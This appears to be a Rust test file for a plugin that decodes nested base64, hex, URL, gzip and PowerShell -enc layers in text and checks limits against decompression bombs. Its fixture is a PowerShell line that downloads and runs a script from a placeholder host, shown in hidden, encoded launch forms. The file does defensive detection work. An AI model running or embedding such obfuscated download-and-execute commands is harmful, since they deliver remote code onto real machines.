//! Things encoded in one another, things that only look so, and bombs.

#![allow(clippy::unwrap_used)]

use std::io::Write;

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE_NO_PAD};
use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder, ZlibEncoder};
use proptest::prelude::*;
use spoor_plugin_decode::{Bounds, Layer, unpack};

const BOUNDS: Bounds = Bounds {
    depth: 8,
    bytes: 1 << 20,
    layers: 64,
};

const SCRIPT: &str = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')";

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn base64(bytes: impl AsRef<[u8]>) -> String {
    STANDARD.encode(bytes)
}

fn hex(bytes: &[u8], before: &str) -> String {
    bytes
        .iter()
        .map(|byte| format!("{before}{byte:02x}"))
        .collect()
}

fn percent(text: &str) -> String {
    text.bytes()
        .map(|byte| match byte.is_ascii_alphanumeric() {
            true => char::from(byte).to_string(),
            false => format!("%{byte:02X}"),
        })
        .collect()
}

/// Path, encodings and text (or kind) of each layer.
fn told(text: &str) -> Vec<String> {
    unpack(text, BOUNDS).iter().map(line).collect()
}

fn line(layer: &Layer) -> String {
    let text = layer.text.as_deref().unwrap_or(layer.kind);
    let cut = if layer.cut { " ..." } else { "" };
    format!("{} {}: {text}{cut}", layer.path, layer.chain.join(" > "))
}

#[test]
fn one_encoding() {
    let script = SCRIPT.as_bytes();
    let listed = hex(script, ",0x");
    for (text, layer) in [
        (
            format!("powershell -nop -w hidden -enc {}", base64(utf16(SCRIPT))),
            "powershell",
        ),
        (
            format!("pwsh.exe /e \"{}\"", base64(utf16(SCRIPT))),
            "powershell",
        ),
        (format!("echo {} | base64 -d", base64(SCRIPT)), "base64"),
        (format!("x={};", STANDARD_NO_PAD.encode(SCRIPT)), "base64"),
        (format!("t={}", base64(utf16(SCRIPT))), "base64 > utf16le"),
        (
            format!("{{\"a\":\"{}\"}}", base64(gzip(script))),
            "base64 > gzip",
        ),
        (format!("'{}'", base64(zlib(script))), "base64 > zlib"),
        (
            format!("FromBase64String('{}')", base64(deflate(script))),
            "base64 > deflate",
        ),
        (format!("0x{}", hex(script, "")), "hex"),
        (hex(script, "\\x"), "hex"),
        (format!("@({})", listed.trim_start_matches(',')), "hex"),
        (
            format!("GET /?q={} HTTP/1.1", hex(&gzip(script), "")),
            "hex > gzip",
        ),
        (format!("\"{}\"", percent(SCRIPT)), "url"),
    ] {
        assert_eq!(told(&text), [format!("1 {layer}: {SCRIPT}")], "{text}");
    }
}

#[test]
fn layers_inside_layers() {
    let encoded = base64(utf16(SCRIPT));
    let outer = format!(
        "cmd /c \"powershell -e {encoded}\" & rem {}",
        percent("<a href='x'>")
    );
    let text = format!(
        "run {} and {}",
        base64(gzip(outer.as_bytes())),
        base64("another piece of text")
    );
    assert_eq!(
        told(&text),
        [
            format!("1 base64 > gzip: {outer}"),
            format!("1.1 base64 > gzip > powershell: {SCRIPT}"),
            "1.2 base64 > gzip > url: <a href='x'>".to_owned(),
            "2 base64: another piece of text".to_owned(),
        ]
    );
    let layers = unpack(&text, BOUNDS);
    assert_eq!(Some(layers[1].range.start), outer.find(&encoded));
}

#[test]
fn offsets_count_characters() {
    let piece = base64("what is to be found");
    let layers = unpack(&format!("\u{1f600}\u{e9} {piece}"), BOUNDS);
    assert_eq!(layers[0].range, 3..3 + piece.len());
}

#[test]
fn what_is_cut_off_is_decoded_as_far_as_it_goes() {
    let long: String = (0..99).map(|n| format!("line {n} of {SCRIPT}\n")).collect();
    for (whole, chain) in [
        (base64(gzip(long.as_bytes())), "base64 > gzip"),
        (base64(deflate(long.as_bytes())), "base64 > deflate"),
        (base64(&long), "base64"),
        (base64(utf16(&long)), "base64 > utf16le"),
    ] {
        let layers = unpack(&whole[..whole.len() - 31], BOUNDS);
        assert_eq!(layers.len(), 1, "{chain}");
        assert_eq!(layers[0].chain.join(" > "), chain);
        let found = layers[0].text.as_deref().unwrap();
        assert!(
            long.starts_with(found) && found.len() > 40,
            "{chain}: {found}"
        );
    }
}

#[test]
fn files_and_data_are_told_by_their_hash() {
    let mut program = vec![0_u8; 512];
    program[..2].copy_from_slice(b"MZ");
    program[60] = 128;
    program[128..130].copy_from_slice(b"PE");
    let layers = unpack(&base64(&program), BOUNDS);
    assert_eq!((layers[0].kind, layers[0].bytes), ("exe", 512));
    assert_eq!(layers[0].sha256.as_ref().map(String::len), Some(64));
    let random: Vec<u8> = (0..96_u32)
        .map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    assert_eq!(
        told(&format!("$c = '{}'", base64(&random))),
        ["1 base64: data"]
    );
}

#[test]
fn url_safe_and_in_paths() {
    let jwt = URL_SAFE_NO_PAD.encode("{\"alg\":\"HS256\",\"kid\":\"what???>>>\"}");
    assert!(jwt.contains(['-', '_']));
    assert_eq!(
        told(&jwt),
        ["1 base64url: {\"alg\":\"HS256\",\"kid\":\"what???>>>\"}"]
    );
    let text = format!("/api/{}/x", STANDARD_NO_PAD.encode("user=alice&id=42"));
    assert_eq!(told(&text), ["1 base64: user=alice&id=42"]);
}

#[test]
fn what_only_looks_encoded_is_left() {
    for text in [
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoProfile",
        "/usr/lib/python3/dist-packages/cryptography/hazmat/bindings/openssl/binding",
        "Microsoft-Windows-PowerShell/Operational MicrosoftEdgeUpdateTaskMachineCore",
        "d41d8cd98f00b204e9800998ecf8427e da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "6ba7b810-9dad-11d1-80b4-00c04fd430c8 S-1-5-21-3623811015-3361044348-30300820-1013",
        "grep -e pattern -e another; echo -e something; cmd /e value",
        "http://example.com/a%20b%20c 100% %TEMP% %SystemRoot%",
        "20201009123456789012345678901234 1602244800000000",
        "{$I=($I+1)%256;$H=($H+$S[$I])%256;$_-bXor$S[($S[$I]+$S[$H])%256]}",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        "================================================",
        "",
        "%",
        "%4",
        "0x",
        "\\x4",
    ] {
        assert_eq!(told(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn bombs_meet_the_bounds() {
    let zeros = gzip("a".repeat(50 << 20).as_bytes());
    let layers = unpack(&base64(&zeros), BOUNDS);
    assert_eq!(layers.len(), 1);
    assert!(layers[0].cut && layers[0].bytes <= BOUNDS.bytes);
    // Compressed again and again.
    let nested = (0..20).fold(gzip(&vec![b'a'; 1 << 20]), |inner, _| gzip(&inner));
    let layers = unpack(&base64(nested), BOUNDS);
    assert!(layers.iter().all(|layer| layer.chain.len() <= BOUNDS.depth));
    let many = format!("{} ", base64("one of very many pieces")).repeat(10_000);
    assert_eq!(unpack(&many, BOUNDS).len(), BOUNDS.layers);
    let deep = (0..24).fold(SCRIPT.to_owned(), |inner, _| base64(inner));
    let layers = unpack(&deep, BOUNDS);
    assert_eq!(layers.len(), BOUNDS.depth);
    assert!(layers.last().unwrap().cut);
    let deeper = Bounds {
        depth: 1_000,
        ..BOUNDS
    };
    let layers = unpack(&deep, deeper);
    assert_eq!(layers.len(), 24);
    assert_eq!(layers.last().unwrap().text.as_deref(), Some(SCRIPT));
}

/// Texts of one piece again and again: what is quadratic takes minutes here.
#[test]
fn long_texts_take_time_in_proportion() {
    for piece in [
        "a",
        "A/",
        "-",
        "a-",
        "%",
        "%41",
        "%41%",
        "%4",
        "0x41,",
        "0x",
        "\\x41",
        "\\x",
        "=",
        "ab==",
        "-e ",
        "-enc aa ",
        "/e A",
        "deadbeef",
        "H4sI",
        "aGVsbG8gd29ybGQh ",
        "\u{e9}",
        "'%41",
        "aaaaaaaaaaaaaaaaaaaa/",
        "%41%41%41 ",
    ] {
        let text = piece.repeat((1 << 20) / piece.len());
        let layers = unpack(&text, BOUNDS);
        assert!(layers.len() <= BOUNDS.layers, "{piece}");
    }
}

proptest! {
    #[test]
    fn any_text_is_read(text in r#"([A-Za-z0-9+/=%_ -]|%[0-9a-f]{2}|\\x[0-9a-f]{2}|0x[0-9a-f]{2},|-enc |H4sI|TVqQ|\PC){0,80}"#) {
        let mut bytes = 0;
        for layer in unpack(&text, BOUNDS) {
            bytes += layer.bytes;
            prop_assert!(layer.chain.len() <= BOUNDS.depth);
        }
        prop_assert!(bytes <= BOUNDS.bytes);
    }

    #[test]
    fn what_was_encoded_comes_back(text in "[a-z]{3,9} [a-zA-Z0-9 ]{20,60}", steps in prop::collection::vec(0..5_u8, 1..5)) {
        let encoded = steps.iter().fold(text.clone(), |inner, step| match step {
            0 => base64(inner),
            1 => base64(gzip(inner.as_bytes())),
            2 => hex(inner.as_bytes(), ""),
            3 => base64(utf16(&inner)),
            _ => base64(zlib(inner.as_bytes())),
        });
        let layers = unpack(&encoded, Bounds { depth: 32, ..BOUNDS });
        // By chance a word of the text may itself be something encoded.
        let told = layers.iter().any(|layer| layer.text.as_deref() == Some(text.as_str()));
        prop_assert!(told, "{layers:?}");
    }
}
